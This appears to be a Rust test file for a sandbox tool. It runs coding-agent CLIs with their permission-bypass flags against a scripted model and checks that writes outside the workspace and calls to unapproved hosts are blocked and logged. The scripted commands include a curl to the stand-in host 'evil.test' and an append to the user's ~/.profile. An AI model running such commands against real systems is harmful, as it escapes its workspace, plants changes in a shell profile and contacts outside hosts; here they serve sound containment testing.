//! The agents as npm ships them, unattended, with a scripted model: what they are told to write in the workspace is there,
//! what they are told to do outside is not, and the log shows whom they asked.

use crate::case::tail;
use crate::fresh::{Env, Fresh};
use crate::run;
use crate::runner::{Cost, Outcome, Trial};
use crate::stage::{Ground, Stage, Who};
use crate::usability::work_env;
use crate::wall::{Spec, Wall};
use crate::work::outside;
use std::fs;
use std::time::Duration;

/// How an agent is run to its end without anybody there.
struct Agent {
    program: &'static str,
    argv: &'static [&'static str],
    preset: &'static str,
    /// The variable that holds its key.
    key: &'static str,
    port: u16,
}

const AGENTS: &[Agent] = &[
    Agent {
        program: "claude",
        argv: &["claude", "-p", "go", "--dangerously-skip-permissions"],
        preset: "claude-code",
        key: "ANTHROPIC_API_KEY",
        port: 8002,
    },
    Agent {
        program: "codex",
        argv: &["codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox", "go"],
        preset: "codex",
        key: "OPENAI_API_KEY",
        port: 8003,
    },
];

pub fn collect(trials: &mut Vec<Trial>) {
    for agent in AGENTS {
        trials.push(Trial::new(format!("agents::user::{}", agent.program), Cost::Slow, move |stage| one(stage, agent)));
    }
}

/// What one run of the script came to.
struct Seen {
    made: bool,
    outside: bool,
    reached: bool,
    asked: usize,
    keyed: bool,
    status: i32,
    err: String,
    audit: String,
    show: String,
}

fn one(stage: &Stage, agent: &Agent) -> Outcome {
    if let Some(why) = stage.lacks(Who::User, true) {
        return Outcome::Skipped(why);
    }
    let installed =
        stage.peers().is_some() && crate::stage::peers().join("node_modules/.bin").join(agent.program).exists();
    if !installed {
        return Outcome::Skipped(format!("{} is not installed (tests/install-peers.sh)", agent.program));
    }
    let control = match task(stage, agent, Wall::Nothing) {
        Ok(seen) => seen,
        Err(why) => return Outcome::Failed(why),
    };
    if !(control.made && control.outside && control.reached && control.keyed && control.status == 0) {
        return Outcome::Failed(format!(
            "the control shows nothing: without a sandbox the script must do all that it says\n{}",
            control.show
        ));
    }
    if stage.wall == Wall::Nothing {
        return Outcome::Passed(String::new());
    }
    let seen = match task(stage, agent, stage.wall) {
        Ok(seen) => seen,
        Err(why) => return Outcome::Failed(why),
    };
    let model = format!("model.test:{}", agent.port);
    let facts = [
        (seen.status == 0, "the agent ended well"),
        (seen.made, "what it wrote in the workspace is there"),
        (!seen.outside, "what it wrote outside is not"),
        (!seen.reached, "the host that no rule names saw nothing"),
        (seen.asked >= 4, "the model was asked until the end"),
        (seen.keyed, "the agent had its key"),
        (seen.err.contains(agent.preset), "the preset was picked by the program's name, and said so"),
        (seen.audit.contains(&model), "the log shows the requests to the model"),
        (seen.audit.lines().any(|l| l.contains("denied") && l.contains("evil.test")), "the log shows the refused host"),
        (!seen.audit.contains("sk-test-"), "the log has no key in it"),
    ];
    let wrong: Vec<_> = facts.iter().filter(|(good, _)| !good).map(|(_, what)| *what).collect();
    if wrong.is_empty() {
        Outcome::Passed(String::new())
    } else {
        Outcome::Failed(format!("not so: {}\naudit: {}\n{}", wrong.join("; "), tail(&seen.audit, 1500), seen.show))
    }
}

fn task(stage: &Stage, agent: &Agent, wall: Wall) -> Result<Seen, String> {
    let fresh = Fresh::new(stage, Who::User, agent.program);
    let script = [
        "echo made-by-agent > made.txt".to_owned(),
        format!("echo x > {}/agent.txt; echo x >> {}/.profile", fresh.out.display(), fresh.home.display()),
        format!("curl -s -m 8 http://evil.test/{} -o /dev/null; echo rc $?", fresh.mark),
    ];
    let script = fresh.note(stage, "script.json", &serde_json::to_string(&script).unwrap_or_default());
    let log = fresh.note(stage, "model.log", "");
    let port = agent.port.to_string();
    let server = stage.base.join("bin/model_server.py");
    let argv = [
        "/usr/bin/python3",
        &server.to_string_lossy(),
        "10.9.9.9",
        &port,
        &script.to_string_lossy(),
        &log.to_string_lossy(),
    ]
    .map(str::to_owned);
    let _model = outside(stage, &fresh, &argv)?;
    std::thread::sleep(Duration::from_millis(700));

    let mut env = work_env(stage, &fresh);
    let bin = stage.peers().unwrap_or_default().join("node_modules/.bin");
    let path = format!("{}:{}", bin.display(), env["PATH"]);
    let url = format!("http://model.test:{}", agent.port);
    let key = format!("sk-test-{}", fresh.mark);
    env.extend(Env::from([
        ("PATH".to_owned(), path),
        (agent.key.to_owned(), key.clone()),
        ("ANTHROPIC_BASE_URL".to_owned(), url.clone()),
        ("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC".to_owned(), "1".to_owned()),
    ]));
    if agent.program == "codex" {
        fresh.folder(stage, &fresh.home.join(".codex"));
        let config = format!(
            "model_provider = \"scripted\"\nmodel = \"scripted\"\n[model_providers.scripted]\nname = \"scripted\"\nbase_url = \"{url}/v1\"\nwire_api = \"responses\"\nenv_key = \"OPENAI_API_KEY\"\n"
        );
        fresh.put(stage, &fresh.home.join(".codex/config.toml"), config);
    }
    let audit = fresh.state.join("audit.jsonl");
    let host = format!("model.test:{}", agent.port);
    let address = format!("10.9.9.9:{}", agent.port);
    let flags = ["--audit", &audit.to_string_lossy(), "--allow-host", &host, "--allow-host", &address]
        .map(str::to_owned)
        .to_vec();
    let inner: Vec<String> = agent.argv.iter().map(|s| (*s).to_owned()).collect();
    let argv = wall.argv(stage, &fresh, &Spec { flags, ..Spec::default() }, &inner);
    let ran = run::run(&mut stage.command(Who::User, Ground::World, &fresh.ws, &env, &argv), Duration::from_secs(180));
    let asked = fs::read_to_string(&log).unwrap_or_default();
    Ok(Seen {
        made: fs::read_to_string(fresh.ws.join("made.txt")).is_ok_and(|t| t == "made-by-agent\n"),
        outside: fresh.out.join("agent.txt").exists() || fresh.home.join(".profile").exists(),
        reached: !stage.seen_outside(&fresh.mark).is_empty(),
        asked: asked.lines().filter(|l| l.contains("\"protocol\"")).count(),
        keyed: asked.contains(&key),
        status: ran.status,
        audit: fs::read_to_string(&audit).unwrap_or_default(),
        show: format!("{}\nmodel: {}", ran.show(), tail(&asked, 1200)),
        err: ran.err,
    })
}
